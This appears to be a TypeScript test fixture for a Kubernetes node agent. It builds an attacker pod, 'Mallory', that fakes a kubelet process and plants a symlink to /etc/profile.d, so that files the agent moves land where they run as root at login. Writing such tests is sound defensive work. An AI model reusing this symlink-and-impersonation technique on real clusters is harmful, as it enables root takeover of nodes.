/** A pod that wants to be taken for the kubelet, so that the agent moves its files through a link of its choice. */
import { TEST_IMAGE } from '../../node/images.ts';
import type { Machine } from './machine.ts';
import { waitOnMachine } from './witness.ts';

/** Where the link leads: what lies there is run as root when somebody logs in. */
export const PREY = '/etc/profile.d';
/** The file that is to get there, a manifest to all who ask. */
export const LOOT = 'mallory.sh';

/** Who the process is. */
export interface MalloryShape {
  readonly user: number;
  readonly hostPid: boolean;
}

const MANIFEST = '/etc/kubernetes/manifests/mallory.yaml';
const READY_MS = 120_000;

/** What it does in the container: a folder of manifests, beside it a link, and a kubelet in name. */
const SCRIPT = `set -e
mkdir -p /loot/pods
echo '{"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "mallory"}, "spec": {}}' > /loot/pods/${LOOT}
ln -sfn ${PREY} /loot/nodemaint-parked
ln -sfn /usr/bin/dash /loot/kubelet
exec /loot/kubelet -c 'trap "exit 0" TERM; while :; do sleep 0.2; done' kubelet --kubeconfig= \\
  --hostname-override="$NODE" --pod-manifest-path="/var/lib/kubelet/pods/$ID/volumes/kubernetes.io~empty-dir/loot/pods"
`;

function podOf(node: string, { user, hostPid }: MalloryShape): object {
  const fromHost = ['/usr', '/lib', '/lib64'];
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'mallory', namespace: 'default' },
    spec: {
      hostNetwork: true,
      hostPID: hostPid,
      terminationGracePeriodSeconds: 5,
      securityContext: { runAsUser: user, runAsGroup: user, fsGroup: user },
      containers: [
        {
          name: 'main',
          image: TEST_IMAGE,
          imagePullPolicy: 'Never',
          command: ['/bin/sh', '-c', SCRIPT],
          env: [
            { name: 'NODE', value: node },
            { name: 'ID', valueFrom: { fieldRef: { fieldPath: 'metadata.uid' } } },
          ],
          volumeMounts: [
            { name: 'loot', mountPath: '/loot' },
            // Its image would have a shell of its own: the one of the tests does not bear another name.
            ...fromHost.map((place) => ({ name: place.slice(1), mountPath: place, readOnly: true })),
          ],
        },
      ],
      volumes: [
        { name: 'loot', emptyDir: {} },
        ...fromHost.map((place) => ({ name: place.slice(1), hostPath: { path: place } })),
      ],
    },
  };
}

/**
 * Starts it and waits until its process runs. It is a static pod because a kubelet without an API server runs no others;
 * what it can reach is the same.
 */
export async function startMallory(machine: Machine, node: string, shape: MalloryShape): Promise<void> {
  const input = JSON.stringify(podOf(node, shape));
  await machine.must(`cat > /root/mallory && mv /root/mallory ${MANIFEST}`, { input });
  await waitOnMachine(machine, `pgrep -f '^/loot/kubele[t].*empty-dir/loot/pods'`, READY_MS);
}

/** Takes it away and waits until its process is gone. */
export async function endMallory(machine: Machine): Promise<void> {
  await machine.must(`rm -f ${MANIFEST}`);
  await waitOnMachine(machine, `! pgrep -f '^/loot/kubele[t]'`, READY_MS);
}
